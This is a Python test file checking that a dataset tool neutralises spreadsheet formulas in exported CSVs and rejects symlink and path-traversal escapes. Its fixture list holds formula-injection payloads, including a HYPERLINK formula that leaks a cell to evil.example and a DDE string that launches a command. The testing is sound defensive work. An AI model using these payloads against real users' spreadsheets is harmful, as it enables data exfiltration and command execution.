"""Untrusted text kept harmless (issue 17): links out of input_dir, formulas in exported CSVs,
and a resume folder named by a shared store's tag."""

from __future__ import annotations

import csv
import json
import socket
from types import SimpleNamespace

import pytest

from sftlab.config.errors import ConfigError
from sftlab.data.spreadsheet import TRIGGERS, neutralise, restore

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=ya escapado",
    "- una lista\n- de puntos",
]


def _live(cell: str) -> bool:
    return cell.startswith(TRIGGERS)


@pytest.mark.parametrize("text", [*FORMULAS, "texto normal", "'comillas", "", "'"])
def test_neutralise_restore_round_trip(text):
    assert not _live(neutralise(text))
    assert restore(neutralise(text)) == text


def test_document_links_out_of_input_dir_are_skipped(tmp_path, capsys):
    from sftlab.data.builder.documents import find_documents

    docs, secret = tmp_path / "docs", tmp_path / "outside" / "secreto.txt"
    docs.mkdir()
    secret.parent.mkdir()
    secret.write_text("clave privada")
    (docs / "ley.txt").write_text("Art. 1. Texto.")
    (docs / "fuga.txt").symlink_to(secret)
    (docs / "sub").symlink_to(secret.parent, target_is_directory=True)
    (docs / "alias.txt").symlink_to(docs / "ley.txt")  # a link that stays inside is fine
    found = {p.name for p in find_documents(str(docs), [".txt"])}
    assert found == {"ley.txt", "alias.txt"}
    out = capsys.readouterr().out
    assert "skipped" in out and "fuga.txt" in out and "outside" in out


def test_review_export_holds_no_live_formula_and_imports_back(tmp_path):
    from sftlab.data.builder.review import export_csv, import_csv

    pairs = tmp_path / "pairs.jsonl"
    rows = [
        {"id": f"p{n}", "instruction": text, "input": "", "output": FORMULAS[-1 - n], "source_file": "a.txt"}
        for n, text in enumerate(FORMULAS)
    ]
    pairs.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    review = tmp_path / "review.csv"
    export_csv(str(pairs), str(review))
    with review.open(encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert cells and not [c for c in cells if _live(c)]
    out = tmp_path / "reviewed.jsonl"
    assert import_csv(str(review), str(pairs), str(out))["keep"] == len(rows)  # nothing seen as edited
    back = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [(r["instruction"], r["output"]) for r in back] == [(r["instruction"], r["output"]) for r in rows]


def test_human_template_holds_no_live_formula_and_reads_back(tmp_path):
    from sftlab.judge.human_scores import export_for_people, read_filled

    rows = [
        {"suite": "s", "item": f"i{n}", "attempt": 1, "question": q, "answer": q, "reference": q}
        for n, q in enumerate(FORMULAS)
    ]
    path = export_for_people(rows, tmp_path / "template.csv")
    with path.open(encoding="utf-8", newline="") as f:
        lines = list(csv.DictReader(f))
    assert not [c for line in lines for c in line.values() if _live(c)]
    lines[0]["human_score"], lines[0]["human_reason"] = "4", "'=está bien"  # as a person types it
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(lines[0]))
        writer.writeheader()
        writer.writerows(lines)
    assert read_filled(path)[("s", "i0", 1)] == (4, "=está bien")


def _run(host: str):
    return SimpleNamespace(
        info=SimpleNamespace(run_id="r1"), data=SimpleNamespace(tags={"sftlab.host": host})
    )


def test_resume_follows_only_a_folder_of_this_host_below_the_outputs_root(tmp_path):
    from sftlab.train.resume import _check_folder

    root, inside = tmp_path / "outputs", tmp_path / "outputs" / "2026-12-02" / "10-00-00"
    inside.mkdir(parents=True)
    here = socket.gethostname()
    _check_folder(_run(here), str(inside), str(root))  # fine
    with pytest.raises(ConfigError, match="not below paths.outputs_root"):
        _check_folder(_run(here), "/etc", str(root))
    with pytest.raises(ConfigError, match="not below paths.outputs_root"):
        _check_folder(_run(here), str(root / ".." / "x"), str(root))
    with pytest.raises(ConfigError, match="was trained on host other-node"):
        _check_folder(_run("other-node"), str(inside), str(root))
